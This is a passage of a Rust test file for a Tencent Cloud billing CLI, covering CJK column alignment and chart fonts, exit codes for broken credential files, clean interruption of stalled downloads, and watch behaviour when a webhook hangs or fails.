     "CashPayAmount": "400.25", "VoucherPayAmount": "100.00"},
    {"BusinessCode": "p_cos", "BusinessCodeName": "对象存储", "RealTotalCost": "300.00", "RealTotalCostRatio": "14.60",
     "CashPayAmount": "300.00", "VoucherPayAmount": "0.00"},
    {"BusinessCode": "p_clb", "BusinessCodeName": "CLB", "RealTotalCost": "19.25", "RealTotalCostRatio": "0.95",
     "CashPayAmount": "19.25", "VoucherPayAmount": "0.00"}
]}"#;

/// Chinese product names from a zh-CN client: the table's columns line up by display width (a
/// CJK character takes two cells), and the chart is drawn with a font that has their glyphs.
#[tokio::test]
async fn chinese_names_line_up_and_draw_with_a_font_that_has_them() {
    use tencentcloud_billing::Language;
    use tencentcloud_billing::sandbox::Sandbox;
    use unicode_width::UnicodeWidthStr;
    let sandbox = Sandbox::start().await.unwrap();
    sandbox.set_json_handler("DescribeBillSummaryByProduct", |_, _| Ok(ZH_CN_SUMMARY.to_owned()));
    let client = sandbox.client_builder().language(Language::ZhCn).build().unwrap();
    let png = temp("costs.png");
    let mut out = Vec::new();
    let month: YearMonth = "2026-10".parse().unwrap();
    summary::run(&client, month, summary::GroupBy::Product, None, Some(&png), &mut out).await.unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 7, "{text}");
    assert!(lines[2].starts_with("  云服务器 "), "{text}");
    // The header and the four rows end their last (right-aligned) column in the same cell, and
    // every amount column ends where the header's does.
    let cells: Vec<usize> = lines[1..6].iter().map(|l| l.width()).collect();
    assert!(cells.iter().all(|&c| c == cells[0]), "{cells:?}\n{text}");
    let chars: Vec<usize> = lines[1..6].iter().map(|l| l.chars().count()).collect();
    assert!(chars.iter().any(|&c| c != chars[0]), "the names take more cells than chars: {chars:?}");
    let cost_end = |line: &str, cost: &str| line[..line.find(cost).unwrap() + cost.len()].width();
    let header_cost = cost_end(lines[1], "cost");
    for (line, cost) in lines[2..6].iter().zip(["1234.50", "500.25", "300.00", "19.25"]) {
        assert_eq!(cost_end(line, cost), header_cost, "{line:?}\n{text}");
    }
    assert_eq!(cost_end(lines[6], "2054.00"), header_cost, "the total too:\n{text}");
    // The chart: a PNG, drawn with a font that has every name's glyphs.
    let bytes = std::fs::read(&png).unwrap();
    assert!(bytes.starts_with(b"\x89PNG"), "a PNG");
    let names = "云服务器内容分发网络 CDN对象存储CLB";
    let choice = summary::chart::font_for(names).unwrap();
    assert_eq!(choice.missing, None, "{choice:?}");
    let font_path = choice.path;
    let font_bytes = std::fs::read(&font_path).unwrap();
    let font = ab_glyph::FontRef::try_from_slice(&font_bytes).unwrap();
    for c in names.chars().filter(|c| !c.is_whitespace()) {
        assert_ne!(ab_glyph::Font::glyph_id(&font, c).0, 0, "{} has no glyph for {c:?}", font_path.display());
    }
    let requests = sandbox.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
}

/// Text no installed font can draw still gets the font that draws most of it, and a warning
/// that names the character and the font to install.
#[test]
fn a_chart_font_without_a_glyph_says_what_to_install() {
    // A private-use character of the last plane: no system font draws it.
    let choice = summary::chart::font_for("云\u{10FFFD}").unwrap();
    assert_eq!(choice.missing, Some('\u{10FFFD}'), "{choice:?}");
    let w = choice.warning().unwrap();
    assert!(w.contains("has no glyph for '\\u{10fffd}', which draws as a box: install a CJK font"), "{w}");
    assert!(w.contains("fonts-wqy-microhei") && w.contains("TCBILL_FONT"), "{w}");
    // The Chinese character is drawn: the font chosen has it.
    let again = summary::chart::font_for("云").unwrap();
    assert_eq!((again.missing, &again.path), (None, &choice.path));
}

/// Something at `~/.tencentcloud/credentials` that is not a readable file (a FIFO, a link to
/// `/dev/zero`, a link to a volume that is not mounted) is a broken credential source: every
/// command stops with exit 3 and writes nothing, instead of treating it as absent and showing the
/// demo account or another identity.
#[cfg(unix)]
#[test]
fn a_broken_profile_file_at_the_default_path_is_exit_3() {
    assert_no_system_credentials();
    let cases: [(&str, &Prepare); 3] = [
        ("fifo", &|p| assert!(std::process::Command::new("mkfifo").arg(p).status().unwrap().success())),
        ("devzero", &|p| std::os::unix::fs::symlink("/dev/zero", p).unwrap()),
        ("dangling", &|p| std::os::unix::fs::symlink("/nonexistent-secret-volume/credentials", p).unwrap()),
    ];
    for (what, make) in cases {
        let prepare = |home: &std::path::Path| {
            std::fs::create_dir_all(home.join(".tencentcloud")).unwrap();
            make(&home.join(".tencentcloud/credentials"));
        };
        let out = temp(&format!("broken-profile-{what}.csv"));
        let month = last_month().to_string();
        for args in [
            vec!["balance"],
            vec!["bills", "--month", month.as_str(), "--out", out.to_str().unwrap()],
            vec!["watch", "--threshold", "500", "--once"],
        ] {
            let run = run_binary_in(&format!("broken-{what}"), &prepare, &args, &[]);
            assert_eq!(run.code, Some(3), "{what} {args:?}: {run:?}");
            assert_eq!(run.stdout, "", "{what} {args:?}");
            assert!(run.stderr.contains(".tencentcloud/credentials"), "{what} {args:?}: {run:?}");
            assert!(!out.exists(), "{what} {args:?}: an output file was written");
        }
    }
}

/// A file host that announces `len` bytes, sends the first kilobyte and then holds the
/// connection open without sending more, as a host that stalls would. Returns its URL.
fn stalling_file_host(len: usize) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/billDetail-2026-10.csv", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && s.read(&mut byte).is_ok_and(|n| n == 1) {
                    head.push(byte[0]);
                }
                let _ = write!(s, "HTTP/1.1 200 OK\r\nContent-Length: {len}\r\n\r\n");
                let _ = s.write_all(&[b'x'; 1024]);
                std::thread::sleep(Duration::from_secs(120));
            });
        }
    });
    url
}

/// SIGINT or SIGTERM in the middle of `tcbill download` stops it at once with exit 130, and
/// leaves neither the file nor its part behind; a part file that an earlier, killed run left for
/// the same file is removed too.
#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signal_during_download_stops_it_and_leaves_nothing() {
    use tencentcloud_billing::sandbox::Sandbox;
    let sandbox = Sandbox::start().await.unwrap();
    sandbox.add_credentials("AKIDdownload", "download-key", None);
    let url = stalling_file_host(100_000);
    sandbox.set_json_handler("DescribeBillDownloadUrl", move |_, _| {
        Ok(serde_json::json!({ "Ready": 1, "DownloadUrl": url }).to_string())
    });
    for signal in ["-INT", "-TERM"] {
        let dir = temp(&format!("download-signal{signal}"));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        // What a run killed with SIGKILL leaves: pid 0 is never a running download.
        std::fs::write(dir.join(".billDetail-2026-10.csv.0-0.part"), b"half").unwrap();
        let stderr = dir.with_extension("stderr");
        let mut child = std::process::Command::new(tcbill_binary())
            .args(["download", "--month", "2026-10", "--type", "L3", "--out", dir.to_str().unwrap()])
            .env("TENCENTCLOUD_SECRET_ID", "AKIDdownload")
            .env("TENCENTCLOUD_SECRET_KEY", "download-key")
            .env("TENCENTCLOUD_BILLING_ENDPOINT", sandbox.endpoint())
            .env("TENCENTCLOUD_CVM_ROLE_DISABLED", "true")
            .stdout(std::process::Stdio::null())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .spawn()
            .unwrap();
        // Wait (bounded) until the body is flowing, then signal.
        let started = std::time::Instant::now();
        while !std::fs::read_to_string(&stderr).unwrap().contains("downloading 100000 bytes") {
            assert!(started.elapsed() < Duration::from_secs(60), "{}", std::fs::read_to_string(&stderr).unwrap());
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let killed = std::process::Command::new("kill").args([signal, &child.id().to_string()]).status().unwrap();
        assert!(killed.success());
        let mut status = None;
        for _ in 0..1_000 {
            if let Some(s) = child.try_wait().unwrap() {
                status = Some(s);
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let Some(status) = status else {
            let _ = child.kill();
            panic!("tcbill download still runs 10 s after {signal}");
        };
        let text = std::fs::read_to_string(&stderr).unwrap();
        assert_eq!(status.code(), Some(130), "{signal}: {text}");
        assert!(text.contains("interrupted; no file was written"), "{signal}: {text}");
        let left: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert!(left.is_empty(), "{signal}: left behind: {left:?}");
        let _ = std::fs::remove_dir_all(&dir);
        let _ = std::fs::remove_file(&stderr);
    }
}

/// A webhook that never answers, or always answers 500, does not hold the watch: the alerts go
/// through their own task, so Ctrl-C ends the watch at once (exit 130) with the alert counted as
/// undelivered, where awaiting the delivery in the loop took its timeouts and retries (45 s and
/// more). One account and several.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_or_failing_webhook_never_stalls_watch() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};
    for (what, answer) in [
        ("hanging", ResponseTemplate::new(200).set_delay(Duration::from_secs(600))),
        ("failing", ResponseTemplate::new(500)),
    ] {
        for accounts in [&["--demo", "low"][..], &["--profile", "low", "--profile", "overdue"][..]] {
            let server = std::sync::Arc::new(MockServer::start().await);
            Mock::given(method("POST")).respond_with(answer.clone()).mount(&server).await;
            let hook = server.uri();
            let mut args = accounts.to_vec();
            args.extend(["watch", "--threshold", "500", "--interval", "1s", "--debounce", "0s", "--webhook", &hook]);
            // Stop once the webhook has been called: the alert is then in delivery.
            let seen = std::sync::Arc::clone(&server);
            let stop: interrupt::Interrupt = Box::pin(async move {
                for _ in 0..1_000 {
                    if !seen.received_requests().await.unwrap_or_default().is_empty() {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            });
            let ran = tokio::time::timeout(Duration::from_secs(12), tcbill(&args, stop)).await;
            let (code, out) = ran.unwrap_or_else(|_| panic!("{what} webhook, {accounts:?}: the watch did not stop"));
            assert_eq!(code, exit::EXIT_INTERRUPTED, "{what} {accounts:?}: {out}");
            assert!(out.contains("low_balance"), "{what} {accounts:?}: {out}");
        }
    }
}
